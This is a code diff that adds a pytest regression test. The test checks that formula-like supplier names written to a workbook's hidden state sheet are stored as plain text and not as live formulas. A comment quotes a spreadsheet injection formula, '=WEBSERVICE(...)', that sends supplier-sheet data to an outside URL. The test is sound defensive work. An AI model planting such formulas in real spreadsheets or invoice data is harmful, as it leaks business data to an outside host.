@@ -92,3 +92,19 @@ def test_a_run_that_changes_nothing_does_not_save(workbook: Path) -> None:
         port.update_rows(PAYMENTS, {2: {C.STATUS: "Offen", C.ID: 1}})
         port.write_state({schema.STATE_SCHEMA_VERSION: str(schema.SCHEMA_VERSION)})
     assert (workbook.stat().st_mtime_ns, workbook.read_bytes()) == before
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_in_the_state_sheet_is_text(workbook: Path, text: str) -> None:
+    # Broke: a supplier name '=WEBSERVICE("http://…"&Lieferanten!C2)' from an XRechnung
+    # reached the hidden state sheet (lieferant.<ID>) as a live formula.
+    with open_workbook(workbook) as port:
+        port.write_state({"lieferant.2": text})
+    cell = next(
+        row[1]
+        for row in load_workbook(workbook)["_zahllauf"].iter_rows()
+        if row[0].value == "lieferant.2"
+    )
+    assert cell.value == text and cell.data_type == "s"
+    with open_workbook(workbook, save=False) as port:
+        assert port.read_state()["lieferant.2"] == text
